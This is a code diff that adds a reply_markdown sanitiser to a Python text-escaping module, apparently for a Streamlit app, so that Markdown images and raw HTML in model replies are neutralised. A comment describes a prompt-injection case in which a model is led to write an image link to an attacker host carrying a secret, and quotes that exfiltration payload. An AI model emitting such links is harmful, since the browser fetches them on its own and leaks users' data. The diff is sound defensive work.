@@ -14,6 +14,9 @@ goes into a Markdown-rendering call; never on text shown by ``st.text``, ``st.co
 Plotly draws titles, axis labels, hover text and point labels from its own HTML subset (``<b>``,
 ``<a href>``, ``<span style>``, ``<br>``): :func:`plotly_text` makes a user-supplied string show as
 typed there.
+
+A model's reply keeps its Markdown, minus images and raw HTML: :func:`reply_markdown`, used by
+every place that renders a reply as Markdown.
 """
 
 from __future__ import annotations
@@ -93,3 +96,70 @@ def plotly_text(text: object) -> str:
     which plotly shows literally.
     """
     return html.escape(_BIDI_CONTROL.sub("", str(text)), quote=False)
+
+
+# Model replies keep their Markdown (lists, code, tables, emphasis, links), but a prompt can make a
+# model write "![](http://attacker/?q=secret)", which the browser would fetch on its own
+# (exfiltration), or raw HTML. Outside code, every "<" and every "!" before "[" become character
+# references: CommonMark never reads a reference as structure, so "&#33;[a](u)" shows "!" and a
+# link (fetched only on a click), "&lt;img ...>" shows as text, and a backslash the model put
+# before them escapes only the "&". Inside code they are literal text and are kept; anything this
+# scan is unsure is code (a fence inside a list or quote, a span holding a table's "|") is
+# treated as prose, which can only show a reference literally, never let an image through.
+_FENCE_OPEN = re.compile(r"( {0,3})(`{3,}(?=[^`]*$)|~{3,})")
+_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)([^|\n]*?[^`|\n])\1(?!`)")
+_IMAGE_OR_HTML = re.compile(r"!(?=\[)|<")
+_REFERENCES = {"!": "&#33;", "<": "&lt;"}
+
+
+def _neutralise_prose(text: str) -> str:
+    pieces: list[str] = []
+    start = 0
+    for span in _CODE_SPAN.finditer(text):
+        pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start : span.start()]))
+        pieces.append(span.group())
+        start = span.end()
+    pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start:]))
+    return "".join(pieces)
+
+
+def _fence_end(lines: list[str], opening: int) -> int | None:
+    """The index of the line closing the fence opened at ``opening``, or None when it is not
+    surely a top-level fence (no closing line, or a line indented less than the fence, which
+    would end a list item around it)."""
+    match = _FENCE_OPEN.match(lines[opening])
+    assert match is not None
+    indent, fence = len(match.group(1)), match.group(2)
+    closing = re.compile(rf" {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
+    for index in range(opening + 1, len(lines)):
+        line = lines[index]
+        if closing.match(line):
+            return index
+        if line.strip() and len(line) - len(line.lstrip(" ")) < indent:
+            return None
+    return None
+
+
+def reply_markdown(text: object) -> str:
+    """A model's reply as Markdown that keeps its formatting but shows no image and no raw HTML.
+
+    Use it wherever a model's reply is rendered as Markdown (``st.markdown``), streamed or kept.
+
+    Example: ``reply_markdown("**Hi** ![](http://x/?q=1) <img src=y>")`` gives
+    ``"**Hi** &#33;[](http://x/?q=1) &lt;img src=y>"``: bold text, a "!", a link and the tag as text.
+    """
+    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
+    shown: list[str] = []
+    prose_start = index = 0
+    while index < len(lines):
+        end = _fence_end(lines, index) if _FENCE_OPEN.match(lines[index]) else None
+        if end is None:
+            index += 1
+            continue
+        if prose_start < index:
+            shown.append(_neutralise_prose("\n".join(lines[prose_start:index])))
+        shown.append("\n".join(lines[index : end + 1]))
+        prose_start = index = end + 1
+    if prose_start < len(lines):
+        shown.append(_neutralise_prose("\n".join(lines[prose_start:])))
+    return "\n".join(shown)
